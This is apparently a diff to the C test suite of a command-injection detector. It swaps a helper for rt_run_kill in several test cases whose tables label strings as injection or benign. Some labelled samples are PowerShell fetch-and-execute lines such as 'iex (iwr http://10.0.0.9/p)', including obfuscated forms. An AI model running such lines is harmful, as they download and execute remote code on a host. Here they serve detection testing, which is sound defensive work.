@@ -20,18 +20,6 @@
 #define C PAYLOAD_CMDI
 #define N PAYLOAD_NONE
 
-static void rtc7_run(const char *cls, const struct rtcase *t, size_t n)
-{
-	struct rtcase a[64];
-	size_t k = 0;
-
-	rt_run(cls, t, n);
-	for (size_t i = 0; i < n && k < 64; i++)
-		if (t[i].want == C)
-			a[k++] = t[i];
-	rt_kill_run(cls, C, a, k);
-}
-
 /* a code call with a blank before '(' on a module's name or a chain's
  * method (os.popen ( 'whoami'), Runtime.getRuntime().exec ("id")) */
 static void test_cmdi_call_blank_names(void **st)
@@ -52,7 +40,7 @@ static void test_cmdi_call_blank_names(void **st)
 		{"os.popen is deprecated since Python 2.6", N},
 		{"use io.popen only for trusted input", N},
 	};
-	rtc7_run("cmdi-call-blank-names", t, sizeof(t) / sizeof(t[0]));
+	rt_run_kill("cmdi-call-blank-names", C, t, sizeof(t) / sizeof(t[0]));
 }
 
 /* decoys ahead of the call: every occurrence is looked at, none of the
@@ -70,7 +58,7 @@ static void test_cmdi_decoys_first(void **st)
 		{"iex(1);iex(2);iex(3);iex(4);iex(5);iex(6);iex(7);iex(8);iex(9);iex (iwr http://10.0.0.9/p)", C},
 		{"&( &(gcm i*x)(iwr http://10.0.0.9/p)", C},
 	};
-	rtc7_run("cmdi-decoys-first", t, sizeof(t) / sizeof(t[0]));
+	rt_run_kill("cmdi-decoys-first", C, t, sizeof(t) / sizeof(t[0]));
 }
 
 /* PowerShell's script block made from a string and run: by the call
@@ -86,7 +74,7 @@ static void test_cmdi_ps_scriptblock(void **st)
 		{"iex ([scriptblock]::create($x))", C},
 		{"Use [scriptblock]::Create() to build a script block from a string", N},
 	};
-	rtc7_run("cmdi-ps-scriptblock", t, sizeof(t) / sizeof(t[0]));
+	rt_run_kill("cmdi-ps-scriptblock", C, t, sizeof(t) / sizeof(t[0]));
 }
 
 /* code that runs a command as eval-based injections write it: Node's
@@ -111,7 +99,7 @@ static void test_cmdi_lang_code(void **st)
 		{"array_map('trim', $lines)", N},
 		{"call_user_func('system_info', $id)", N},
 	};
-	rtc7_run("cmdi-lang-code", t, sizeof(t) / sizeof(t[0]));
+	rt_run_kill("cmdi-lang-code", C, t, sizeof(t) / sizeof(t[0]));
 }
 
 int main(void)
